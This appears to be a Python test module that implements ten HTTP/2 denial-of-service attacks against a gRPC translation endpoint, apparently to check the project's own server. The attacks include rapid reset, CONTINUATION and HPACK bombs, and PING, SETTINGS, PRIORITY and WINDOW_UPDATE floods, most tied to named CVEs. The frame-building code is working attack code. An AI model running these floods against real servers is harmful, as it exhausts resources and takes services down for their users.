# SPDX-License-Identifier: Apache-2.0

"""Attacks that send frames as fast as the server reads them."""
import struct

import http2

TRANSLATE = "/sheaf.v1.TextService/Translate"
FRAMES_AT_ONCE = 500


def repeated(loop, block, frames):
    """A feed that sends the block again and again."""
    def feed(_):
        loop.tally["frames"] += frames
        return block
    return feed


def header_then(loop, begin, more):
    """A feed that begins a header block and never ends it."""
    block = http2.frame(http2.CONTINUATION, 0, 1, more) * 64

    def feed(connection):
        if connection.store is None:
            connection.store = True
            loop.tally["streams"] += 1
            return http2.frame(http2.HEADERS, 0, 1, begin)
        loop.tally["frames"] += 64
        return block
    loop.add(feed, acknowledges=False)


def hpack_string(loop):
    """A header's name that declares 1 GiB of Huffman codes, in CONTINUATION frames
    (CVE-2023-33953)."""
    is_huffman = 0x80
    begin = b"\0" + http2.hpack_integer(is_huffman, 7, 1 << 30)
    header_then(loop, begin, b"\0" * 4096)


def continuation_flood(loop):
    """A header block of complete headers that never ends (CVE-2024-24549 and
    others)."""
    header_then(loop, http2.request_headers(TRANSLATE),
                b"".join(http2.header(f"x-{i}", "v" * 100) for i in range(32)))


def rapid_reset(loop):
    """Streams that are reset as soon as they are open (CVE-2023-44487)."""
    first, again = http2.indexed_headers(TRANSLATE)

    def feed(connection):
        out = bytearray()
        for _ in range(FRAMES_AT_ONCE):
            stream = connection.next_stream
            if stream >= http2.MAX_WINDOW - 2:
                break
            out += connection.start(first if stream == 1 else again, ends=False)
            out += connection.cancel(stream)
        return out
    loop.add(feed)


def unacknowledged_settings(loop):
    """49,600 open streams on a connection that does not acknowledge SETTINGS, so
    that no limit of streams and metadata is in force."""
    block = http2.request_headers(TRANSLATE)

    def feed(connection):
        if connection.next_stream > 2 * 24800:
            return b""
        return b"".join(connection.start(block, ends=False) for _ in range(FRAMES_AT_ONCE))
    loop.add(feed, acknowledges=False)


def empty_data(loop):
    """DATA frames without data and without an end (CVE-2019-9518)."""
    block = http2.request_headers(TRANSLATE)

    def feed(connection):
        if connection.store is None or connection.store not in connection.open:
            connection.store = connection.next_stream
            return connection.start(block, ends=False)
        loop.tally["frames"] += FRAMES_AT_ONCE
        return http2.frame(http2.DATA, 0, connection.store) * FRAMES_AT_ONCE
    loop.add(feed)


def ping_flood(loop):
    """PING frames, each of which asks for an answer (CVE-2019-9512)."""
    block = http2.frame(http2.PING, 0, 0, b"attacker") * FRAMES_AT_ONCE
    loop.add(repeated(loop, block, FRAMES_AT_ONCE))


def settings_flood(loop):
    """SETTINGS frames, each of which asks for an answer (CVE-2019-9515)."""
    block = http2.settings_frame({http2.INITIAL_WINDOW_SIZE: 65535}) * FRAMES_AT_ONCE
    loop.add(repeated(loop, block, FRAMES_AT_ONCE))


def window_flood(loop):
    """WINDOW_UPDATE frames of one byte each, for the connection."""
    block = http2.window_update(0, 1) * FRAMES_AT_ONCE
    # The window stays legal for some hundred million frames.
    loop.add(repeated(loop, block, FRAMES_AT_ONCE),
             settings={http2.INITIAL_WINDOW_SIZE: 65535})


def priority_flood(loop):
    """PRIORITY frames for streams that are not open (CVE-2019-9513)."""
    def feed(connection):
        first = connection.store or 1
        connection.store = (first + 2 * FRAMES_AT_ONCE) % (1 << 30)
        loop.tally["frames"] += FRAMES_AT_ONCE
        return b"".join(http2.frame(http2.PRIORITY, 0, first + 2 * i, struct.pack(">IB", 0, i & 255))
                        for i in range(FRAMES_AT_ONCE))
    loop.add(feed)


def metadata_flood(loop):
    """Calls with 15 KiB of metadata, which is below the server's limit of 16 KiB; a
    new one replaces each that is refused."""
    extra = [(f"x-{i}", "v" * 200) for i in range(60)]
    block = http2.request_headers(TRANSLATE, extra)

    def feed(connection):
        if len(connection.open) >= min(connection.max_streams, 1000):
            return b""
        return connection.start(block, ends=False)
    loop.add(feed, count=4)


ATTACKS = (hpack_string, continuation_flood, rapid_reset, unacknowledged_settings,
           empty_data, ping_flood, settings_flood, window_flood, priority_flood,
           metadata_flood)
